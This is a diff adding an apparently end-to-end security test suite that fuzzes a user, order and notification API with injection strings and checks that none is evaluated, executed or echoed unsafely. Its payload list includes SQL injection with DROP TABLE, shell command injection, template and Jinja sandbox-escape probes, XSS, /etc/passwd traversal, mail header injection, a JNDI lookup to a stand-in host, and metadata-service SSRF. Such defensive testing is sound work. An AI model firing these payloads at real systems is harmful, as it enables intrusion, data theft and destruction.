@@ -1,0 +1,206 @@
+"""Strings that mean something to a database, a shell, a template, a browser, a mail server or a path: in every field.
+
+The fields come from the OpenAPI documents, so that a new one is tried without anybody thinking of it. Each is refused
+or kept as it stands.
+"""
+
+from __future__ import annotations
+
+import copy
+from collections.abc import Callable, Iterator
+from functools import partial
+from typing import Any
+from urllib.parse import quote
+from uuid import uuid4
+
+import httpx2
+import pytest
+
+from tests.e2e.client import PASSWORD, Client
+from tests.e2e.sandbox import Sandbox
+from tests.e2e.waiting import eventually
+
+Attack = Callable[..., httpx2.Response]
+Path = tuple[str | int, ...]
+
+STRINGS = (
+    "' OR '1'='1' --",
+    "'; DROP TABLE users; SELECT pg_sleep(30); --",
+    "1 UNION SELECT password_hash FROM users",
+    "$(touch /tmp/owned)`id`|id;id",
+    "{{1337*7331}}${1337*7331}<%=1337*7331%>#{1337*7331}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "../../../../../../etc/passwd",
+    "x\r\nBcc: victim@example.com\r\n\r\nowned",
+    "x\u2028y\u202egnp.exe\ufeff",
+    "nul\x00byte",
+    "%00%0d%0a%s%n%x",
+    "${jndi:ldap://elsewhere.example/a}",
+    "http://169.254.169.254/latest/meta-data/",
+    "\r\nCONFIG SET dir /tmp\r\n",
+    "*)(uid=*))(|(uid=*",
+    "A" * 5000,
+)
+VALUES: tuple[Any, ...] = (*STRINGS, None, True, -1, 2**63, 1e308, [], {}, {"$ne": None}, ["a"] * 2000)
+COMPUTED = "9801547"  # 1337 * 7331: somebody evaluated a template
+
+LINE = {"sku": "A", "name": "A", "quantity": 1, "unit_price": 100}
+BODIES: dict[tuple[str, str], dict[str, Any]] = {
+    ("POST", "/api/auth/register"): {"email": "eve@example.com", "password": PASSWORD, "name": "Eve"},
+    ("POST", "/api/auth/login"): {"email": "eve@example.com", "password": "not the password"},
+    ("POST", "/api/auth/refresh"): {"refresh_token": "x" * 88},
+    ("PUT", "/api/users/{user_id}"): {"email": "eve@example.com", "name": "Eve"},
+    ("POST", "/api/orders"): {"items": [LINE], "currency": "EUR"},
+    ("PUT", "/api/orders/{order_id}/status"): {"status": "paid"},
+    ("POST", "/api/notifications/send"): {
+        "channel": "email",
+        "to": "nobody@example.com",
+        "template": "message",
+        "data": {"subject": "x", "text": "x"},
+    },
+}
+
+
+def operations(client: Client) -> Iterator[tuple[str, str, dict[str, Any]]]:
+    for service in ("user", "order", "notification"):
+        for path, methods in client.get(f"/openapi/{service}.json").json()["paths"].items():
+            for method, operation in methods.items():
+                yield method.upper(), path, operation
+
+
+def leaves(value: Any, path: Path = ()) -> Iterator[Path]:
+    """Where in a body there is a value that can be replaced."""
+    inside: list[tuple[str | int, Any]] = []
+    if isinstance(value, dict):
+        inside = list(value.items())
+    elif isinstance(value, list):
+        inside = list(enumerate(value))
+    for key, item in inside:
+        yield (*path, key)
+        yield from leaves(item, (*path, key))
+
+
+def replaced(body: dict[str, Any], path: Path, value: Any) -> dict[str, Any]:
+    changed: Any = copy.deepcopy(body)
+    place = changed
+    for key in path[:-1]:
+        place = place[key]
+    place[path[-1]] = value
+    return dict(changed)
+
+
+def test_every_documented_body_is_attacked(anybody: Client) -> None:
+    documented = {(method, path) for method, path, operation in operations(anybody) if "requestBody" in operation}
+    assert documented == set(BODIES)
+
+
+@pytest.mark.parametrize("operation", BODIES, ids=" ".join)
+def test_no_value_in_a_body_is_more_than_a_value(
+    attack: Attack, customer: Client, admin: Client, operation: tuple[str, str]
+) -> None:
+    method, template = operation
+    who = admin if template.startswith("/api/notifications") or template.endswith("/status") else customer
+    order = customer.order().json()["id"] if "order_id" in template else ""
+    path = template.format(user_id=customer.user["id"], order_id=order)
+    for leaf in leaves(BODIES[operation]):
+        for value in VALUES:
+            headers = {"Idempotency-Key": uuid4().hex, "If-Match": "*"}
+            body = replaced(BODIES[operation], leaf, value)
+            if template.endswith("register") and leaf != ("email",):
+                body["email"] = f"{uuid4().hex}@example.com"
+            options = {"json": body, "headers": headers, "sent": str(value)}
+            answer = patiently(partial(attack, who, method, path, **options))
+            assert COMPUTED not in answer.text, (leaf, value)
+            assert answer.status_code != 200 or template.endswith(("{user_id}", "status")), (leaf, value)
+
+
+def patiently(ask: Callable[[], httpx2.Response]) -> httpx2.Response:
+    """Ask again while it is too much for the moment: the limits hold for this client too."""
+
+    def answered() -> httpx2.Response | None:
+        response = ask()
+        return None if response.status_code == 429 and response.request.url.path.endswith("register") else response
+
+    return eventually(answered, within=30, what="answer other than 429")
+
+
+def test_no_string_in_an_address_is_more_than_a_string(attack: Attack, customer: Client, anybody: Client) -> None:
+    for method, path, operation in operations(anybody):
+        for parameter in operation.get("parameters", []):
+            if path.startswith("/api/auth/lo") or parameter["in"] not in ("path", "query"):
+                continue
+            for value in STRINGS:
+                encoded, ids = quote(value, safe=""), str(uuid4())
+                if parameter["in"] == "path":
+                    address = path.replace("{" + parameter["name"] + "}", encoded)
+                else:
+                    address = f"{path}?{parameter['name']}={encoded}"
+                for name in ("user_id", "order_id", "notification_id", "session_id"):
+                    address = address.replace("{" + name + "}", ids)
+                if method == "DELETE" and address == path:
+                    continue
+                options = {"json": BODIES[(method, path)]} if (method, path) in BODIES else {}
+                answer = attack(customer, method, address, sent=value, headers={"If-Match": "*"}, **options)
+                assert 400 <= answer.status_code < 500, (method, address, answer.status_code)
+
+
+def test_no_string_in_a_header_is_more_than_a_string(attack: Attack, customer: Client) -> None:
+    line = {"items": [LINE], "currency": "EUR"}
+    for name in (
+        "Idempotency-Key",
+        "If-Match",
+        "User-Agent",
+        "Accept",
+        "Accept-Language",
+        "Referer",
+        "Cookie",
+        "Origin",
+    ):
+        for value in STRINGS:
+            raw = value.replace("\r", "").replace("\n", "").replace("\x00", "").encode()[:3000]
+            headers = {"Idempotency-Key": uuid4().hex} | {name: raw}
+            answer = attack(customer, "POST", "/api/orders", json=line, headers=headers, sent=value)
+            assert answer.status_code in (201, 400, 422), (name, value)
+            assert b"owned" not in str(answer.headers).encode()
+
+
+def test_a_kept_string_comes_back_as_it_was(attack: Attack, customer: Client) -> None:
+    path = f"/api/users/{customer.user['id']}"
+    for value in STRINGS:
+        body = {"email": customer.email, "name": value}
+        answer = attack(customer, "PUT", path, json=body, headers={"If-Match": "*"}, sent=value)
+        if answer.status_code == 200:
+            assert customer.get(path).json()["name"] == value.strip()
+        else:
+            assert answer.status_code == 422, value
+    line = LINE | {"name": "<b>' OR 1=1 --</b>{{1337*7331}}"}
+    placed = attack(
+        customer,
+        "POST",
+        "/api/orders",
+        json={"items": [line], "currency": "EUR"},
+        headers={"Idempotency-Key": uuid4().hex},
+    )
+    assert placed.json()["items"][0]["name"] == line["name"]
+
+
+def test_a_name_stays_a_name_in_the_mail(attack: Attack, anybody: Client, sandbox: Sandbox) -> None:
+    email, name = f"{uuid4().hex}@example.com", "<script>alert(1)</script>{{1337*7331}}"
+    body = {"email": email, "password": PASSWORD, "name": name}
+    assert attack(anybody, "POST", "/api/auth/register", json=body, sent=name).status_code == 201
+    message = sandbox.email(email, "")
+    assert message["Bcc"] is None
+    parts = {
+        part.get_content_type(): part.get_payload(decode=True) for part in message.walk() if not part.is_multipart()
+    }
+    html = parts["text/html"]
+    assert isinstance(html, bytes)
+    assert b"<script>" not in html
+    assert b"&lt;script&gt;" in html
+    assert COMPUTED.encode() not in b"".join(part for part in parts.values() if isinstance(part, bytes))
+
+
+def test_nothing_was_run_on_the_host(sandbox: Sandbox) -> None:
+    found = sandbox.run("find /tmp /var/tmp /var/lib /run -name owned 2>/dev/null || true")
+    assert found == ""
